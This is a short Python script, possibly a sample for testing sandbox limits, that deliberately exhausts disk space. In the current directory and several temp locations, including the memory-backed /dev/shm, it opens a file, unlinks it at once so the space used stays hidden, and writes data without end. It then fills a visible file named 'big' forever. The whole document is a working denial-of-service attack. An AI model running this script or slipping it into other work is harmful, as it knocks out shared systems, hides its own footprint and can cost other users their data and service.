"""Fills its folder with one big file, then with a deleted one, and goes on in others."""

import os
import tempfile

for folder in (".", tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(os.path.join(folder, "left-by-an-attack"), "wb") as big:
            os.unlink(big.name)
            while True:
                big.write(b"x" * 1_000_000)
                big.flush()
    except OSError:
        continue
with open("big", "wb") as big:
    while True:
        big.write(b"x" * 1_000_000)
